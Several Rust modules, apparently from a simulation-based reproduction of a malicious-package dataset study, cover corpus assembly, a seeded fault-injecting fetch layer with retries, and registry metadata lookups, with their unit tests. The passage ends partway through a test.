//! Dataset assembly: merge all sources, recover from mirrors, crawl the
//! report corpus — the output the MALGRAPH builder consumes.

use crate::extract;
use crate::recover::MirrorSearch;
use crate::registry::{RegistryMeta, RegistryView};
use crate::sources::{self, Archive, RawMention};
use oss_types::{PackageId, Sha256, SimTime, SourceId};
use registry_sim::{ReportCategory, World};
use std::collections::HashMap;

/// One distinct package in the merged corpus.
#[derive(Debug, Clone)]
pub struct CollectedPackage {
    /// Registry identity.
    pub id: PackageId,
    /// Every source that mentioned it, with disclosure time.
    pub mentions: Vec<(SourceId, SimTime)>,
    /// The artifact, when any source shipped it or a mirror held it.
    pub archive: Option<Archive>,
    /// Artifact signature (computed from the archive, like the paper's
    /// `hashlib` step); `None` while the package is unavailable.
    pub signature: Option<Sha256>,
    /// Whether the archive came from a mirror rather than a source dump.
    pub recovered_from_mirror: bool,
    /// Whether *some* mirror held the artifact at collection time,
    /// regardless of whether a dump already shipped it. Used by the
    /// single-source missing-rate analysis (Table VI).
    pub mirror_recoverable: bool,
    /// Public registry metadata (release date, removal date, downloads),
    /// from the registry's public API.
    pub meta: Option<RegistryMeta>,
}

impl CollectedPackage {
    /// Whether the artifact is available.
    pub fn is_available(&self) -> bool {
        self.archive.is_some()
    }
}

/// One security report crawled from the report-corpus websites.
#[derive(Debug, Clone)]
pub struct CollectedReport {
    /// Publishing website name.
    pub website: String,
    /// Website category (Table III).
    pub category: ReportCategory,
    /// Publication date parsed from the page.
    pub published: Option<SimTime>,
    /// Page title.
    pub title: String,
    /// Packages the report names.
    pub packages: Vec<PackageId>,
    /// Actor handle if disclosed.
    pub actor: Option<String>,
}

/// The fully assembled corpus.
#[derive(Debug, Clone)]
pub struct CollectedDataset {
    /// Distinct packages, in first-mention order.
    pub packages: Vec<CollectedPackage>,
    /// Crawled security reports.
    pub reports: Vec<CollectedReport>,
    /// Number of report-corpus websites crawled.
    pub website_count: usize,
    /// When collection ran.
    pub collect_time: SimTime,
}

impl CollectedDataset {
    /// Looks up a collected package by identity.
    pub fn get(&self, id: &PackageId) -> Option<&CollectedPackage> {
        self.packages.iter().find(|p| &p.id == id)
    }

    /// `(available, unavailable)` mention counts per source — the rows of
    /// the paper's Table I.
    pub fn table1_counts(&self) -> HashMap<SourceId, (usize, usize)> {
        let mut out: HashMap<SourceId, (usize, usize)> = HashMap::new();
        for pkg in &self.packages {
            for &(source, _) in &pkg.mentions {
                let entry = out.entry(source).or_default();
                // A mention is available when the *source itself* ships
                // archives (dumps) or the package was recovered.
                let dump = matches!(
                    source.publication_style(),
                    oss_types::source::PublicationStyle::DatasetDump
                );
                if dump || pkg.is_available() {
                    entry.0 += 1;
                } else {
                    entry.1 += 1;
                }
            }
        }
        out
    }
}

/// Runs the full collection pipeline against a world:
///
/// 1. render + parse every source's feed ([`sources`]);
/// 2. merge mentions into distinct packages;
/// 3. search mirrors for everything still unavailable ([`MirrorSearch`]);
/// 4. crawl the report-corpus websites ([`extract`]).
pub fn collect(world: &World) -> CollectedDataset {
    // 1. Feeds.
    let mut raw: Vec<RawMention> = Vec::new();
    for source in SourceId::ALL {
        let docs = sources::render_feed(world, source);
        raw.extend(sources::parse_feed(source, &docs));
    }

    // 2. Merge by identity.
    let mut order: Vec<PackageId> = Vec::new();
    let mut merged: HashMap<PackageId, CollectedPackage> = HashMap::new();
    for mention in raw {
        let entry = merged.entry(mention.id.clone()).or_insert_with(|| {
            order.push(mention.id.clone());
            CollectedPackage {
                id: mention.id.clone(),
                mentions: Vec::new(),
                archive: None,
                signature: None,
                recovered_from_mirror: false,
                mirror_recoverable: false,
                meta: None,
            }
        });
        entry.mentions.push((mention.source, mention.disclosed));
        if entry.archive.is_none() {
            entry.archive = mention.archive;
        }
    }

    // 3. Mirror recovery for the rest, plus public registry metadata.
    let search = MirrorSearch::new(world);
    for pkg in merged.values_mut() {
        pkg.meta = world.metadata(&pkg.id);
        let mirror_hit = search.lookup(&pkg.id);
        pkg.mirror_recoverable = mirror_hit.is_some();
        if pkg.archive.is_none() {
            if let Some(archive) = mirror_hit {
                pkg.archive = Some(archive);
                pkg.recovered_from_mirror = true;
            }
        }
        if let Some(archive) = &pkg.archive {
            pkg.signature = Some(registry_sim::campaign::artifact_signature(
                &pkg.id,
                &archive.description,
                &archive.dependencies,
                &archive.code,
            ));
        }
    }

    // 4. Report corpus.
    let mut reports = Vec::new();
    for report in &world.reports {
        let website = &world.websites[report.website];
        let html = registry_sim::report::render_html(report, website, |idx| {
            let p = world.package(idx);
            (p.id.clone(), p.signature.short())
        });
        if let Some(parsed) = extract::parse_report_page(&html) {
            reports.push(CollectedReport {
                website: website.name.clone(),
                category: website.category,
                published: parsed.published,
                title: parsed.title,
                packages: parsed.packages,
                actor: parsed.actor,
            });
        }
    }

    let packages = order
        .into_iter()
        .map(|id| merged.remove(&id).expect("merged entry exists"))
        .collect();
    CollectedDataset {
        packages,
        reports,
        website_count: world.websites.len(),
        collect_time: world.config.collect_time,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    fn dataset() -> (World, CollectedDataset) {
        let world = World::generate(WorldConfig::small(11));
        let ds = collect(&world);
        (world, ds)
    }

    #[test]
    fn distinct_packages_match_world_mention_targets() {
        let (world, ds) = dataset();
        let distinct_truth: std::collections::HashSet<_> =
            world.mentions.iter().map(|m| m.package).collect();
        assert_eq!(ds.packages.len(), distinct_truth.len());
    }

    #[test]
    fn mention_counts_match_world() {
        let (world, ds) = dataset();
        let collected: usize = ds.packages.iter().map(|p| p.mentions.len()).sum();
        assert_eq!(collected, world.mentions.len());
    }

    #[test]
    fn dump_sources_are_always_available() {
        let (_, ds) = dataset();
        let t1 = ds.table1_counts();
        for dump in [SourceId::Maloss, SourceId::MalPyPI, SourceId::DataDog] {
            if let Some(&(_, unavailable)) = t1.get(&dump) {
                assert_eq!(unavailable, 0, "{dump} must have 0 unavailable");
            }
        }
    }

    #[test]
    fn recovery_flag_only_on_mirror_recoveries() {
        let (world, ds) = dataset();
        for pkg in &ds.packages {
            if pkg.recovered_from_mirror {
                assert!(pkg.is_available());
                let truth = world
                    .packages
                    .iter()
                    .find(|p| p.id == pkg.id)
                    .expect("exists");
                assert!(truth.mirror_available);
            }
        }
        assert!(
            ds.packages.iter().any(|p| p.recovered_from_mirror),
            "some packages should come from mirrors"
        );
    }

    #[test]
    fn signatures_match_ground_truth_for_available_packages() {
        let (world, ds) = dataset();
        for pkg in ds.packages.iter().filter(|p| p.is_available()).take(20) {
            let truth = world
                .packages
                .iter()
                .find(|p| p.id == pkg.id)
                .expect("exists");
            assert_eq!(pkg.signature, Some(truth.signature), "hash mismatch for {}", pkg.id);
        }
    }

    #[test]
    fn unavailable_packages_have_no_signature() {
        let (_, ds) = dataset();
        for pkg in &ds.packages {
            assert_eq!(pkg.is_available(), pkg.signature.is_some());
        }
    }

    #[test]
    fn report_crawl_preserves_report_count_and_categories() {
        let (world, ds) = dataset();
        assert_eq!(ds.reports.len(), world.reports.len());
        assert!(ds.reports.iter().any(|r| r.packages.len() >= 2));
        assert!(ds.website_count >= 6, "one website per category at least");
    }

    #[test]
    fn some_packages_remain_unavailable() {
        let (_, ds) = dataset();
        let unavailable = ds.packages.iter().filter(|p| !p.is_available()).count();
        assert!(unavailable > 0, "the missing-rate analysis needs misses");
    }
}
