//! The unreliable-transport layer: every simulated fetch — feed
//! documents, mirror lookups, report pages — passes through a seeded
//! fault plan before the collector sees it.
//!
//! Real crawls (paper §II; *Backstabber's Knife Collection*; Guo et
//! al.'s PyPI study) are dominated by partial failure: removed pages,
//! truncated archives, transient errors. This module reproduces those
//! modes deterministically. Each fetch attempt draws one uniform value
//! from [`registry_sim::fault::FaultPlan`], keyed by `(channel,
//! document, attempt)` — never by shared RNG state — so the same
//! `(seed, fault config)` injects identical faults at any worker-thread
//! count. Transient failures are retried on the bounded
//! [`RetryPolicy`] backoff schedule; permanent failures (and retry
//! exhaustion) drop the document instead of panicking the pipeline.
//!
//! All waits are *simulated* (the world has no wall clock), which is
//! why the per-source wall-time figures in [`CollectionHealth`] are
//! reproducible bit for bit.

use oss_types::fetch::{clamp_rate, FaultConfig, FetchError, RetryPolicy};
use oss_types::SourceId;
use registry_sim::fault::{channel_id, FaultPlan};

/// Channel label of one source's feed stream.
fn feed_channel(source: SourceId) -> u64 {
    channel_id(&format!("feed/{}", source.slug()))
}

/// Channel label of the mirror-lookup stream.
fn mirror_channel() -> u64 {
    channel_id("mirror")
}

/// Channel label of the report-corpus crawl stream.
fn report_channel() -> u64 {
    channel_id("report-corpus")
}

/// What happened to one document across all its fetch attempts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FetchOutcome {
    /// Whether the document was ultimately delivered.
    pub delivered: bool,
    /// Total attempts made (1 + retries actually taken).
    pub attempts: u32,
    /// Retries taken (attempts beyond the first).
    pub retries: u32,
    /// Simulated backoff wait accumulated across retries, in ms.
    pub backoff_ms: u64,
    /// The final error when the document was dropped.
    pub error: Option<FetchError>,
}

impl FetchOutcome {
    /// Whether delivery needed at least one retry.
    pub fn recovered_after_retry(&self) -> bool {
        self.delivered && self.retries > 0
    }
}

/// The seeded unreliable transport one collection run fetches through.
#[derive(Debug, Clone, Copy)]
pub struct Transport {
    plan: FaultPlan,
    faults: FaultConfig,
    retry: RetryPolicy,
}

impl Transport {
    /// A transport over `plan` with the given fault rates and retry
    /// schedule.
    pub fn new(plan: FaultPlan, faults: FaultConfig, retry: RetryPolicy) -> Transport {
        Transport { plan, faults, retry }
    }

    /// A transport that never fails (the legacy `collect` fast path).
    pub fn reliable(plan: FaultPlan) -> Transport {
        Transport::new(plan, FaultConfig::NONE, RetryPolicy::NONE)
    }

    /// The configured fault rates.
    pub fn faults(&self) -> &FaultConfig {
        &self.faults
    }

    /// The configured retry schedule.
    pub fn retry(&self) -> &RetryPolicy {
        &self.retry
    }

    /// Fetches document `index` of `source`'s feed.
    pub fn fetch_feed_document(&self, source: SourceId, index: usize) -> FetchOutcome {
        self.fetch(feed_channel(source), index as u64)
    }

    /// Performs the mirror lookup for `document` (a stable hash of the
    /// package identity, so the outcome is independent of lookup order).
    pub fn fetch_mirror_lookup(&self, document: u64) -> FetchOutcome {
        self.fetch(mirror_channel(), document)
    }

    /// Fetches one report-corpus page.
    pub fn fetch_report_page(&self, report_id: u64) -> FetchOutcome {
        self.fetch(report_channel(), report_id)
    }

    /// Runs the full attempt/retry loop for one document on `channel`.
    pub fn fetch(&self, channel: u64, document: u64) -> FetchOutcome {
        let outcome = self.fetch_inner(channel, document);
        if obs::enabled() && outcome.backoff_ms > 0 {
            obs::histogram_record("transport.backoff_ms", outcome.backoff_ms);
        }
        outcome
    }

    fn fetch_inner(&self, channel: u64, document: u64) -> FetchOutcome {
        let mut outcome = FetchOutcome {
            delivered: false,
            attempts: 0,
            retries: 0,
            backoff_ms: 0,
            error: None,
        };
        // Fast path: a fault-free transport never rolls at all.
        if self.faults.is_fault_free() {
            outcome.delivered = true;
            outcome.attempts = 1;
            return outcome;
        }
        let mut attempt = 0u32;
        loop {
            outcome.attempts += 1;
            match self.fault_at(channel, document, attempt) {
                None => {
                    outcome.delivered = true;
                    outcome.error = None;
                    return outcome;
                }
                Some(error) => {
                    outcome.error = Some(error);
                    if error.is_transient() && attempt < self.retry.max_retries {
                        outcome.backoff_ms =
                            outcome.backoff_ms.saturating_add(self.retry.backoff_ms(attempt));
                        outcome.retries += 1;
                        attempt += 1;
                    } else {
                        return outcome; // permanent, or retries exhausted
                    }
                }
            }
        }
    }

    /// The fault injected at one `(channel, document, attempt)` cell, if
    /// any: a single uniform draw walked through the cumulative
    /// per-category rates in [`FetchError::ALL`] order.
    fn fault_at(&self, channel: u64, document: u64, attempt: u32) -> Option<FetchError> {
        let draw = self.plan.unit(channel, document, attempt);
        let mut cumulative = 0.0;
        for error in FetchError::ALL {
            cumulative += clamp_rate(self.faults.rate_of(error));
            if draw < cumulative {
                return Some(error);
            }
        }
        None
    }
}

/// Fetch telemetry of one channel (a source feed, the mirror lookups,
/// or the report-corpus crawl).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FetchHealth {
    /// Fetch attempts, including retries.
    pub attempts: u64,
    /// Retries taken.
    pub retries: u64,
    /// Documents delivered only after at least one retry.
    pub recovered: u64,
    /// Documents delivered (first try or after retries).
    pub delivered: u64,
    /// Documents permanently lost (404 or retries exhausted).
    pub dropped: u64,
    /// Simulated wall time spent waiting in backoff, in ms.
    pub backoff_ms: u64,
}

impl FetchHealth {
    /// Folds one document's outcome into the counters.
    pub fn record(&mut self, outcome: &FetchOutcome) {
        self.attempts += u64::from(outcome.attempts);
        self.retries += u64::from(outcome.retries);
        self.backoff_ms = self.backoff_ms.saturating_add(outcome.backoff_ms);
        if outcome.delivered {
            self.delivered += 1;
            if outcome.recovered_after_retry() {
                self.recovered += 1;
            }
        } else {
            self.dropped += 1;
        }
    }

    /// Adds another channel's counters into this one.
    pub fn merge(&mut self, other: &FetchHealth) {
        self.attempts += other.attempts;
        self.retries += other.retries;
        self.recovered += other.recovered;
        self.delivered += other.delivered;
        self.dropped += other.dropped;
        self.backoff_ms = self.backoff_ms.saturating_add(other.backoff_ms);
    }

    /// Documents this channel tried to fetch.
    pub fn documents(&self) -> u64 {
        self.delivered + self.dropped
    }

    /// Whether the channel saw no faults at all.
    pub fn is_clean(&self) -> bool {
        self.retries == 0 && self.dropped == 0
    }
}

/// Per-source health telemetry of one collection run — the operational
/// answer to "how hostile was the crawl, and what did we lose?".
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CollectionHealth {
    /// One row per online source, in [`SourceId::ALL`] order.
    pub sources: Vec<(SourceId, FetchHealth)>,
    /// The mirror-lookup channel.
    pub mirror: FetchHealth,
    /// The report-corpus crawl channel.
    pub report_corpus: FetchHealth,
}

impl CollectionHealth {
    /// A zeroed report covering every source.
    pub fn new() -> CollectionHealth {
        CollectionHealth {
            sources: SourceId::ALL
                .iter()
                .map(|&s| (s, FetchHealth::default()))
                .collect(),
            mirror: FetchHealth::default(),
            report_corpus: FetchHealth::default(),
        }
    }

    /// The health row of one source.
    pub fn source(&self, source: SourceId) -> &FetchHealth {
        &self
            .sources
            .iter()
            .find(|(s, _)| *s == source)
            .expect("every source has a row")
            .1
    }

    /// Mutable health row of one source.
    pub fn source_mut(&mut self, source: SourceId) -> &mut FetchHealth {
        &mut self
            .sources
            .iter_mut()
            .find(|(s, _)| *s == source)
            .expect("every source has a row")
            .1
    }

    /// Grand total over all channels.
    pub fn total(&self) -> FetchHealth {
        let mut total = FetchHealth::default();
        for (_, health) in &self.sources {
            total.merge(health);
        }
        total.merge(&self.mirror);
        total.merge(&self.report_corpus);
        total
    }

    /// Whether the whole run saw no faults (a legacy-equivalent corpus).
    pub fn is_fault_free(&self) -> bool {
        self.total().is_clean()
    }

    /// Folds the run's telemetry into the obs metrics registry, one
    /// counter family per quantity with a `{channel=…}` label per
    /// channel plus unlabeled grand totals. The JSON `"health"` key on
    /// exported corpora is unaffected — this is the metrics-registry
    /// view of the same numbers.
    pub fn absorb_into_obs(&self) {
        if !obs::enabled() {
            return;
        }
        let absorb = |label: &str, health: &FetchHealth| {
            obs::counter_add(&format!("crawler.attempts{{channel={label}}}"), health.attempts);
            obs::counter_add(&format!("crawler.retries{{channel={label}}}"), health.retries);
            obs::counter_add(&format!("crawler.recovered{{channel={label}}}"), health.recovered);
            obs::counter_add(&format!("crawler.delivered{{channel={label}}}"), health.delivered);
            obs::counter_add(&format!("crawler.dropped{{channel={label}}}"), health.dropped);
        };
        for (source, health) in &self.sources {
            absorb(&format!("feed/{}", source.slug()), health);
        }
        absorb("mirror", &self.mirror);
        absorb("report-corpus", &self.report_corpus);
        let total = self.total();
        obs::counter_add("crawler.attempts", total.attempts);
        obs::counter_add("crawler.retries", total.retries);
        obs::counter_add("crawler.recovered", total.recovered);
        obs::counter_add("crawler.delivered", total.delivered);
        obs::counter_add("crawler.dropped", total.dropped);
        obs::counter_add("crawler.backoff_ms", total.backoff_ms);
    }
}

impl Default for CollectionHealth {
    fn default() -> Self {
        CollectionHealth::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan() -> FaultPlan {
        FaultPlan::new(1234)
    }

    #[test]
    fn reliable_transport_always_delivers_in_one_attempt() {
        let t = Transport::reliable(plan());
        for doc in 0..200 {
            let o = t.fetch(7, doc);
            assert!(o.delivered);
            assert_eq!(o.attempts, 1);
            assert_eq!(o.retries, 0);
            assert_eq!(o.backoff_ms, 0);
        }
    }

    #[test]
    fn total_blackout_drops_everything_without_panicking() {
        let t = Transport::new(plan(), FaultConfig::transient(1.0), RetryPolicy::with_retries(2));
        for doc in 0..50 {
            let o = t.fetch(7, doc);
            assert!(!o.delivered);
            assert_eq!(o.attempts, 3, "1 try + 2 retries");
            assert_eq!(o.error, Some(FetchError::Transient));
        }
    }

    #[test]
    fn permanent_404s_are_never_retried() {
        let cfg = FaultConfig {
            not_found_rate: 1.0,
            ..FaultConfig::NONE
        };
        let t = Transport::new(plan(), cfg, RetryPolicy::with_retries(5));
        let o = t.fetch(3, 9);
        assert!(!o.delivered);
        assert_eq!(o.attempts, 1);
        assert_eq!(o.error, Some(FetchError::NotFound));
    }

    #[test]
    fn transient_faults_mostly_recover_with_retries() {
        let t = Transport::new(plan(), FaultConfig::transient(0.3), RetryPolicy::STANDARD);
        let mut health = FetchHealth::default();
        const DOCS: u64 = 2_000;
        for doc in 0..DOCS {
            health.record(&t.fetch(11, doc));
        }
        assert_eq!(health.documents(), DOCS);
        // P(drop) = 0.3⁴ ≈ 0.8%; recovery must clear 95% comfortably.
        assert!(
            health.delivered * 100 >= DOCS * 97,
            "only {}/{} delivered",
            health.delivered,
            DOCS
        );
        assert!(health.recovered > 0, "some documents needed retries");
        assert!(health.retries >= health.recovered);
        // Accounting identity: every attempt is a first try or a retry.
        assert_eq!(health.attempts, health.documents() + health.retries);
        assert!(health.backoff_ms > 0);
    }

    #[test]
    fn outcomes_are_deterministic_per_document_key() {
        let t = Transport::new(plan(), FaultConfig::mixed(0.5), RetryPolicy::STANDARD);
        for doc in 0..100 {
            assert_eq!(t.fetch(5, doc), t.fetch(5, doc));
        }
        let other = Transport::new(FaultPlan::new(4321), FaultConfig::mixed(0.5), RetryPolicy::STANDARD);
        assert!(
            (0..100).any(|doc| t.fetch(5, doc) != other.fetch(5, doc)),
            "different plans must differ somewhere"
        );
    }

    #[test]
    fn absurd_rates_are_clamped_not_fatal() {
        let cfg = FaultConfig {
            transient_rate: f64::INFINITY,
            timeout_rate: f64::NAN,
            truncated_rate: -2.0,
            corrupted_rate: 0.0,
            not_found_rate: 0.0,
        };
        let t = Transport::new(plan(), cfg, RetryPolicy::NONE);
        let o = t.fetch(1, 1);
        assert!(!o.delivered, "rate ∞ clamps to certainty");
        assert_eq!(o.error, Some(FetchError::Transient));
    }

    #[test]
    fn health_report_totals_reconcile() {
        let t = Transport::new(plan(), FaultConfig::mixed(0.4), RetryPolicy::STANDARD);
        let mut report = CollectionHealth::new();
        for source in SourceId::ALL {
            for doc in 0..50 {
                let o = t.fetch_feed_document(source, doc);
                report.source_mut(source).record(&o);
            }
        }
        for doc in 0..30 {
            report.mirror.record(&t.fetch_mirror_lookup(doc));
            report.report_corpus.record(&t.fetch_report_page(doc));
        }
        let total = report.total();
        assert_eq!(total.documents(), 10 * 50 + 30 + 30);
        assert_eq!(total.attempts, total.documents() + total.retries);
        assert!(!report.is_fault_free());
        let per_source_docs: u64 = report.sources.iter().map(|(_, h)| h.documents()).sum();
        assert_eq!(per_source_docs, 500);
    }
}
