//! Public registry metadata queries.
//!
//! Beyond the malicious-package feeds, the paper's analyses consult
//! *public* registry information: release dates, download counters
//! (pepy/npm-stat style) and per-name version histories — e.g. the
//! download-evolution study (Fig. 11) and the IDN ranking (Table VIII)
//! need the download numbers of every version of a trojaned package,
//! including the benign ones still live in the registry. [`RegistryView`]
//! models that query surface; the simulator's `World` implements it.

use crate::sources::Archive;
use oss_types::{Ecosystem, PackageId, PackageName, SimTime};
use registry_sim::World;

/// Public metadata of one package release.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RegistryMeta {
    /// Publication instant.
    pub released: SimTime,
    /// Removal instant, if the registry took it down.
    pub removed: Option<SimTime>,
    /// Cumulative download count.
    pub downloads: u64,
}

/// Read-only access to public registry data.
///
/// Implementations must only expose information a real registry API
/// would: metadata, download counters, version listings, and archives of
/// packages that are still live. They must *not* leak simulator ground
/// truth (campaign membership, actors, behaviours).
pub trait RegistryView {
    /// Metadata for a release, if the identity ever existed.
    fn metadata(&self, id: &PackageId) -> Option<RegistryMeta>;

    /// Every release of `name` in `eco` (live or removed), version order.
    fn version_history(&self, eco: Ecosystem, name: &PackageName)
        -> Vec<(PackageId, RegistryMeta)>;

    /// The archive of a release that is still live in the root registry.
    fn live_archive(&self, id: &PackageId) -> Option<Archive>;
}

impl RegistryView for World {
    fn metadata(&self, id: &PackageId) -> Option<RegistryMeta> {
        self.packages.iter().find(|p| &p.id == id).map(|p| RegistryMeta {
            released: p.released,
            removed: p.removed,
            downloads: p.downloads,
        })
    }

    fn version_history(
        &self,
        eco: Ecosystem,
        name: &PackageName,
    ) -> Vec<(PackageId, RegistryMeta)> {
        World::version_history(self, eco, name)
            .into_iter()
            .map(|idx| {
                let p = self.package(idx);
                (
                    p.id.clone(),
                    RegistryMeta {
                        released: p.released,
                        removed: p.removed,
                        downloads: p.downloads,
                    },
                )
            })
            .collect()
    }

    fn live_archive(&self, id: &PackageId) -> Option<Archive> {
        self.packages
            .iter()
            .find(|p| &p.id == id && p.removed.is_none())
            .map(|p| Archive {
                description: p.description.clone(),
                dependencies: p.dependencies.clone(),
                code: p.source_text.clone(),
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    #[test]
    fn metadata_matches_world() {
        let world = World::generate(WorldConfig::small(21));
        let pkg = &world.packages[0];
        let meta = world.metadata(&pkg.id).expect("exists");
        assert_eq!(meta.released, pkg.released);
        assert_eq!(meta.downloads, pkg.downloads);
        assert_eq!(world.metadata(&"npm/ghost@0.0.1".parse().unwrap()), None);
    }

    #[test]
    fn live_archive_only_for_unremoved_packages() {
        let world = World::generate(WorldConfig::small(22));
        let live = world
            .packages
            .iter()
            .find(|p| p.removed.is_none())
            .expect("trojan benign versions are live");
        assert!(world.live_archive(&live.id).is_some());
        let removed = world
            .packages
            .iter()
            .find(|p| p.removed.is_some())
            .expect("removed packages exist");
        assert_eq!(world.live_archive(&removed.id), None);
    }

    #[test]
    fn version_history_is_ordered_and_complete() {
        let world = World::generate(WorldConfig::small(23));
        let trojan = world
            .campaigns
            .iter()
            .find(|c| c.kind == registry_sim::CampaignKind::Trojan)
            .expect("trojans exist");
        let name = world.package(trojan.packages[0]).id.name().clone();
        let history = RegistryView::version_history(&world, trojan.ecosystem, &name);
        assert!(history.len() >= 3);
        for pair in history.windows(2) {
            assert!(pair[0].0.version() < pair[1].0.version());
        }
    }
}
