//! Public registry metadata queries.
//!
//! Beyond the malicious-package feeds, the paper's analyses consult
//! *public* registry information: release dates, download counters
//! (pepy/npm-stat style) and per-name version histories — e.g. the
//! download-evolution study (Fig. 11) and the IDN ranking (Table VIII)
//! need the download numbers of every version of a trojaned package,
//! including the benign ones still live in the registry. [`RegistryView`]
//! models that query surface; the simulator's `World` implements it.

use crate::sources::Archive;
use oss_types::{Ecosystem, PackageId, PackageName, SimTime};
use registry_sim::World;

/// Public metadata of one package release.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RegistryMeta {
    /// Publication instant.
    pub released: SimTime,
    /// Removal instant, if the registry took it down.
    pub removed: Option<SimTime>,
    /// Cumulative download count.
    pub downloads: u64,
}

/// Read-only access to public registry data.
///
/// Implementations must only expose information a real registry API
/// would: metadata, download counters, version listings, and archives of
/// packages that are still live. They must *not* leak simulator ground
/// truth (campaign membership, actors, behaviours).
pub trait RegistryView {
    /// Metadata for a release, if the identity ever existed.
    fn metadata(&self, id: &PackageId) -> Option<RegistryMeta>;

    /// Every release of `name` in `eco` (live or removed), version order.
    fn version_history(&self, eco: Ecosystem, name: &PackageName)
        -> Vec<(PackageId, RegistryMeta)>;

    /// The archive of a release that is still live in the root registry.
    fn live_archive(&self, id: &PackageId) -> Option<Archive>;
}

/// An O(1)-lookup [`RegistryView`] over a [`World`] snapshot.
///
/// `World`'s own trait implementation answers every query with a linear
/// scan over all packages — fine for one-off lookups, quadratic when the
/// evolution analyses (Fig. 11, Table VIII) query the history of every
/// collected name. This wrapper builds the three lookup tables once and
/// answers the same queries with identical results:
///
/// * version histories keyed by `(ecosystem, name)`, each sorted by
///   version with ties kept in registry order (the order the scan-based
///   implementation produces);
/// * first registry entry per identity, for [`RegistryView::metadata`]
///   (`iter().find()` semantics are first-wins on duplicate ids);
/// * first *live* entry per identity, for [`RegistryView::live_archive`].
#[derive(Debug)]
pub struct IndexedRegistry<'a> {
    world: &'a World,
    history: std::collections::HashMap<(Ecosystem, &'a str), Vec<u32>>,
    by_id: std::collections::HashMap<&'a PackageId, u32>,
    live_by_id: std::collections::HashMap<&'a PackageId, u32>,
}

impl<'a> IndexedRegistry<'a> {
    /// Builds the lookup tables in one pass over the world's packages
    /// (plus one sort per distinct name).
    pub fn new(world: &'a World) -> IndexedRegistry<'a> {
        let mut history: std::collections::HashMap<(Ecosystem, &'a str), Vec<u32>> =
            std::collections::HashMap::new();
        let mut by_id = std::collections::HashMap::new();
        let mut live_by_id = std::collections::HashMap::new();
        for (i, p) in world.packages.iter().enumerate() {
            let i = i as u32;
            history
                .entry((p.id.ecosystem(), p.id.name().as_str()))
                .or_default()
                .push(i);
            by_id.entry(&p.id).or_insert(i);
            if p.removed.is_none() {
                live_by_id.entry(&p.id).or_insert(i);
            }
        }
        for indices in history.values_mut() {
            // Stable sort: equal versions keep registry order, exactly
            // like the scan-and-sort in `World::version_history`.
            indices.sort_by(|a, b| {
                world.packages[*a as usize]
                    .id
                    .version()
                    .cmp(world.packages[*b as usize].id.version())
            });
        }
        IndexedRegistry {
            world,
            history,
            by_id,
            live_by_id,
        }
    }

    fn meta_of(&self, idx: u32) -> RegistryMeta {
        let p = &self.world.packages[idx as usize];
        RegistryMeta {
            released: p.released,
            removed: p.removed,
            downloads: p.downloads,
        }
    }
}

impl RegistryView for IndexedRegistry<'_> {
    fn metadata(&self, id: &PackageId) -> Option<RegistryMeta> {
        self.by_id.get(id).map(|&i| self.meta_of(i))
    }

    fn version_history(
        &self,
        eco: Ecosystem,
        name: &PackageName,
    ) -> Vec<(PackageId, RegistryMeta)> {
        self.history
            .get(&(eco, name.as_str()))
            .map(|indices| {
                indices
                    .iter()
                    .map(|&i| {
                        (self.world.packages[i as usize].id.clone(), self.meta_of(i))
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    fn live_archive(&self, id: &PackageId) -> Option<Archive> {
        self.live_by_id.get(id).map(|&i| {
            let p = &self.world.packages[i as usize];
            Archive {
                description: p.description.clone(),
                dependencies: p.dependencies.clone(),
                code: p.source_text.clone(),
            }
        })
    }
}

impl RegistryView for World {
    fn metadata(&self, id: &PackageId) -> Option<RegistryMeta> {
        self.packages.iter().find(|p| &p.id == id).map(|p| RegistryMeta {
            released: p.released,
            removed: p.removed,
            downloads: p.downloads,
        })
    }

    fn version_history(
        &self,
        eco: Ecosystem,
        name: &PackageName,
    ) -> Vec<(PackageId, RegistryMeta)> {
        World::version_history(self, eco, name)
            .into_iter()
            .map(|idx| {
                let p = self.package(idx);
                (
                    p.id.clone(),
                    RegistryMeta {
                        released: p.released,
                        removed: p.removed,
                        downloads: p.downloads,
                    },
                )
            })
            .collect()
    }

    fn live_archive(&self, id: &PackageId) -> Option<Archive> {
        self.packages
            .iter()
            .find(|p| &p.id == id && p.removed.is_none())
            .map(|p| Archive {
                description: p.description.clone(),
                dependencies: p.dependencies.clone(),
                code: p.source_text.clone(),
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    #[test]
    fn metadata_matches_world() {
        let world = World::generate(WorldConfig::small(21));
        let pkg = &world.packages[0];
        let meta = world.metadata(&pkg.id).expect("exists");
        assert_eq!(meta.released, pkg.released);
        assert_eq!(meta.downloads, pkg.downloads);
        assert_eq!(world.metadata(&"npm/ghost@0.0.1".parse().unwrap()), None);
    }

    #[test]
    fn live_archive_only_for_unremoved_packages() {
        let world = World::generate(WorldConfig::small(22));
        let live = world
            .packages
            .iter()
            .find(|p| p.removed.is_none())
            .expect("trojan benign versions are live");
        assert!(world.live_archive(&live.id).is_some());
        let removed = world
            .packages
            .iter()
            .find(|p| p.removed.is_some())
            .expect("removed packages exist");
        assert_eq!(world.live_archive(&removed.id), None);
    }

    #[test]
    fn indexed_registry_matches_scan_implementation() {
        let world = World::generate(WorldConfig::small(24));
        let indexed = IndexedRegistry::new(&world);
        let mut names_seen = std::collections::HashSet::new();
        for p in &world.packages {
            assert_eq!(indexed.metadata(&p.id), world.metadata(&p.id), "{}", p.id);
            assert_eq!(
                indexed.live_archive(&p.id),
                world.live_archive(&p.id),
                "{}",
                p.id
            );
            if names_seen.insert((p.id.ecosystem(), p.id.name().clone())) {
                assert_eq!(
                    RegistryView::version_history(&indexed, p.id.ecosystem(), p.id.name()),
                    RegistryView::version_history(&world, p.id.ecosystem(), p.id.name()),
                    "history of {}",
                    p.id
                );
            }
        }
        let ghost: PackageId = "npm/ghost@9.9.9".parse().unwrap();
        assert_eq!(indexed.metadata(&ghost), None);
        assert_eq!(indexed.live_archive(&ghost), None);
        assert!(RegistryView::version_history(&indexed, Ecosystem::Npm, ghost.name()).is_empty());
    }

    #[test]
